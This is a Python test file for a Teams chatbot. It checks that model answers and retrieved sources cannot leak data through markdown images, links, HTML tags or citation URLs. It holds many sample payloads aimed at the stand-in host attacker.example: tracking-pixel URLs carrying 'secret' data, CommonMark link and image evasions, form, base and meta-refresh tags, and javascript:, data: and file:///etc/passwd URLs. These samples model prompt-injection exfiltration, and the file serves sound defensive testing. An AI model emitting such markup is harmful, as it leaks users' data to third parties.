"""Model and source text cannot exfiltrate (issue 19 item 9): images from hosts not allowed are dropped, links
to them are shown as text with the URL in plain sight, citation URLs are checked and encoded, in personal-chat
text, streamed text and cards."""

from __future__ import annotations

import json
import re

import pytest

import bot.teams_text as teams_text
from bot.replier import _safe_card
from bot.teams_text import no_exfiltration, safe_url, teams_message_text
from services.backends import Citation
from tests.conftest import ScriptedBackend

PIXEL = "https://attacker.example/pixel.png?d=the+secret+plan"
INJECTED = (
    f'Here is the answer.\n\n![status]({PIXEL}) and ![x](<{PIXEL}> "t")\n'
    'Read [the policy](https://attacker.example/login?u=alex) or <img src="https://attacker.example/i.png">.\n\n'
    "[r]: https://attacker.example/ref.png\n"
)
HOSTILE_SOURCE = "https://kb.example/doc)![x](https://attacker.example/p.png?d=1"


def _rendered_images_and_links(text: str) -> list[str]:
    """The URLs Teams would fetch or link from Markdown/HTML in `text` (outside code spans)."""
    outside_code = re.sub(r"`[^`]*`", "", text)
    found = re.findall(r"!\[[^\]]*\]\(\s*<?([^)\s>]+)", outside_code)
    found += re.findall(r"(?<!!)\[[^\]]*\]\(\s*<?([^)\s>]+)", outside_code)
    found += re.findall(r"<(?:img|a)\b[^>]*?(?:src|href)=\"?([^\"\s>]+)", outside_code, re.I)
    return found


@pytest.fixture(autouse=True)
def _no_hosts_allowed():
    teams_text.set_content_hosts(())
    yield
    teams_text.set_content_hosts(())


def test_images_are_dropped_links_shown_and_html_inert():
    text = no_exfiltration(INJECTED)
    assert "attacker.example" in text  # the link's URL is visible...
    assert _rendered_images_and_links(text) == []  # ...but nothing is fetched or disguised
    assert "pixel.png" not in text and "the policy (`https://attacker.example/login?u=alex`)" in text
    assert "&lt;img" in text


def test_an_allowed_host_keeps_its_images_and_links():
    teams_text.set_content_hosts(["*.contoso.example"])
    text = no_exfiltration("![chart](https://cdn.contoso.example/c.png) [doc](https://www.contoso.example/d)")
    assert text == "![chart](https://cdn.contoso.example/c.png) [doc](https://www.contoso.example/d)"
    assert _rendered_images_and_links(no_exfiltration("![a](https://contoso.example.attacker.example/a.png)")) == []


@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "//x.example/a", ""])
def test_citation_urls_must_be_http(url):
    assert safe_url(url) == ""


def test_a_citation_url_cannot_break_out_of_its_link():
    encoded = safe_url(HOSTILE_SOURCE)
    assert "(" not in encoded and ")" not in encoded and "[" not in encoded and "!" not in encoded
    assert encoded.startswith("https://kb.example/doc%29%21%5Bx%5D%28https://attacker.example/")


def test_card_images_from_other_hosts_are_dropped_and_drawn_charts_kept():
    card = {"type": "AdaptiveCard", "body": [
        {"type": "Image", "url": PIXEL}, {"type": "Image", "url": "data:image/png;base64,iVBORw0KGgo="},
        {"type": "TextBlock", "text": f"see ![s]({PIXEL})"},
        {"type": "Container", "backgroundImage": {"url": PIXEL}, "items": []},
    ]}  # fmt: skip
    safe = _safe_card(card)
    assert "attacker.example" not in json.dumps(safe)
    assert [e["type"] for e in safe["body"]] == ["Image", "TextBlock", "Container"]


@pytest.mark.parametrize("shape", ["personal", "groupChat"])  # streamed text and a card; plain text messages
async def test_an_injected_answer_reaches_teams_without_images_or_disguised_links(start_bot, shape):
    citation = Citation(number=1, source="Policy", title="Policy", url=HOSTILE_SOURCE, excerpt=f"![p]({PIXEL})")
    bot = await start_bot(backend=ScriptedBackend(text=INJECTED + " [1]", citations=[citation]))
    channel = bot.channel(shape)
    assert (await bot.post(channel.message("what is the travel policy?"))).status == 200
    await bot.settle()
    sent = [json.dumps(call.body) for call in bot.connector.calls]
    assert sent
    for body in sent:
        data = json.loads(body)
        texts = [data.get("text") or ""]
        texts += [e.get("text", "") for a in data.get("attachments", []) for e in a.get("content", {}).get("body", [])]
        for text in texts:
            urls = _rendered_images_and_links(text)
            assert all(u.startswith("https://kb.example/") and "(" not in u for u in urls), (urls, text)
        assert "pixel.png" not in body


def test_personal_chat_text_is_defanged_outside_code_only():
    text = teams_message_text(f"![s]({PIXEL})\n\n```\n![s]({PIXEL})\n```\n")
    assert text.count("pixel.png") == 1 and text.index("pixel.png") > text.index("```")


@pytest.mark.parametrize(
    "markdown",
    [
        "![[x]](https://attacker.example/p.png?d=secret)",  # brackets in the alt text
        "![x](https://attacker.example/p.png (title))",  # a title in parentheses
        "![x]( https://attacker.example/p.png 'title')",  # a title in single quotes
        "![x](https://attacker.example/p(1).png)",  # parentheses in the URL
        "[[1]](https://attacker.example/phish)",  # a link dressed as a citation marker
        "[a](https://cdn.contoso.example/a)![[x]](https://attacker.example/p.png)",  # after an allowed link
    ],
)
def test_every_commonmark_image_or_link_form_to_another_host_is_inert(markdown):
    teams_text.set_content_hosts(["*.contoso.example"])
    text = teams_message_text(markdown)
    assert re.search(r"\]\(\s*<?https://attacker", text) is None, text
    assert "attacker.example" in text  # shown, not dropped silently


def test_an_allowed_host_keeps_its_images_and_links_in_every_link_form():
    teams_text.set_content_hosts(["*.contoso.example"])
    kept = "![c](https://cdn.contoso.example/c.png) [[1]](https://www.contoso.example/d) [a](https://x.contoso.example/p(1))"
    assert no_exfiltration(kept) == kept
    # An image form the image pattern does not read is made inert even for an allowed host (the safe side:
    # every `![` not read as an allowed image is escaped); its address stays visible.
    exotic = no_exfiltration("![[c]](https://cdn.contoso.example/c.png (t))")
    assert "![" not in exotic and "cdn.contoso.example/c.png" in exotic


# Image forms CommonMark (and Teams) render that the image pattern does not read, and fences Teams does not
# read as code (attack19): each rendered a pixel from attacker.example in a CommonMark renderer.
COMMONMARK_IMAGES = [
    "![s](https://attacker.example/p.png?d=(secret))",  # balanced parentheses in the URL
    f"![s]({PIXEL} 't')",  # single-quoted title
    f"![s]({PIXEL} (t))",  # parenthesised title
    f"![a [b] c]({PIXEL})",  # brackets in the alt text
    f"![a\\]]({PIXEL})",  # escaped bracket in the alt text
    "![s](<https://attacker.example/p.png?d=a b>)",  # angle destination with a space
    f"![s][r]\n\n> [r]: {PIXEL}",  # reference defined in a quote
    f"![s][r]\n\n[r]:\n  {PIXEL}",  # reference with its URL on the next line
    f"![R][]\n\n> [r]: {PIXEL}",  # collapsed reference
    f"```\ncode\n````\n![s]({PIXEL})\n```",  # a longer fence closes the block
    f"Hello\n    ```\n![s]({PIXEL})\n    ```",  # four spaces: paragraph text, not a fence
    f"``` a`b\n![s]({PIXEL})\n```",  # a backtick in a backtick fence's info string: not a fence
]


@pytest.mark.parametrize("payload", COMMONMARK_IMAGES)
def test_no_commonmark_image_form_survives(payload):
    sent = teams_message_text(payload)
    assert "![" not in sent, sent
    card_text = no_exfiltration(payload)
    assert "![" not in card_text or "```" in payload, card_text


def test_code_blocks_still_keep_image_syntax_as_written():
    for fence in ("```", "~~~", "````"):
        text = teams_message_text(f"{fence}js\nconst ok = ![x](y)\n{fence}\n")
        assert "const ok = ![x](y)" in text, text


# Links CommonMark renders that the link patterns did not read (issue 19's known lows): each rendered a live
# <a href> to attacker.example in markdown-it-py's CommonMark renderer, in the text sent and in card text.
COMMONMARK_LINKS = [
    "[x][r]\n\n> [r]: https://attacker.example/quote",  # reference defined in a quote
    "see [R][]\n\n> > [r]: https://attacker.example/nested",  # collapsed reference, nested quote
    "[x][r]\n\n- [r]: https://attacker.example/list",  # defined in a list item
    "[x][r]\n\n> [r]:\n> https://attacker.example/next-line",  # in a quote, URL on the next line
    "[x][a\\]b]\n\n[a\\]b]: https://attacker.example/bracket",  # an escaped bracket in the label
    "[x][r]\n\n   [r]: //attacker.example/protocol-relative",  # no scheme: the page's own
    "see <https://attacker.example/x?d=secret>",  # autolink
    "see <HTTPS://attacker.example/x?d=secret>",  # autolink, scheme in capitals
    "write to <mailto:someone@attacker.example>",  # mailto autolink
    "write to <someone@attacker.example>",  # e-mail autolink
]


def _live_links(markdown: str) -> list[str]:
    from markdown_it import MarkdownIt  # CommonMark as Teams reads it (a dev dependency)

    html = MarkdownIt("commonmark").render(markdown)
    return re.findall(r'(?:href|src)="([^"]*)"', html)


@pytest.mark.parametrize("payload", COMMONMARK_LINKS)
def test_no_commonmark_link_form_to_another_host_stays_live(payload):
    teams_text.set_content_hosts(["*.contoso.example"])
    for text in (teams_message_text(payload), no_exfiltration(payload)):
        assert _live_links(text) == [], text
        assert "attacker.example" in text  # shown as text, not dropped


def test_allowed_hosts_keep_their_references_and_autolinks_and_plain_text_is_untouched():
    teams_text.set_content_hosts(["*.contoso.example"])
    kept = ["see <https://www.contoso.example/a>", "[x][r]\n\n> [r]: https://www.contoso.example/b"]
    for markdown in kept:
        assert no_exfiltration(markdown) == markdown
        assert _live_links(markdown) and all("contoso.example" in url for url in _live_links(markdown))
    for text in ("[Note]: see below", "1 < 2 and 3 > 2", "x <y> z"):
        assert no_exfiltration(text) == text


# Fourth hostile pass (attack/link_neutraliser4.py): reference definitions on \r\n or \r lines, and HTML tags
# other than the media ones whose attributes carry a URL, stayed live in markdown-it-py's CommonMark render.
FOURTH_PASS = [
    "[r]\r\n\r\n[r]: https://attacker.example/crlf\r\n",
    "[r]\r\r[r]: https://attacker.example/cr\r",
    '<form action="https://attacker.example/f"><button>x</button></form>',
    '<base href="https://attacker.example/b">',
    '<meta http-equiv="refresh" content="0;url=https://attacker.example/m">',
    '<div style="background:url(https://attacker.example/s)">x</div>',
    '<table background="https://attacker.example/t"><tr><td>x</td></tr></table>',
    '<input type="image" src="https://attacker.example/i">',
]


@pytest.mark.parametrize("payload", FOURTH_PASS)
def test_no_url_survives_in_crlf_references_or_tag_attributes(payload):
    from markdown_it import MarkdownIt

    for text in (teams_message_text(payload), no_exfiltration(payload)):
        html = MarkdownIt("commonmark").render(text)
        assert "attacker.example" not in re.sub(r"&lt;[^<]*|<code>[^<]*</code>", "", html), html
        assert "attacker.example" in text  # shown as text, not dropped


def test_plain_tags_and_comparisons_read_the_same():
    assert teams_message_text("a <b>bold</b> x<br/>y, and 3 < 4 = true") == "a <b>bold</b> x<br/>y, and 3 < 4 = true"
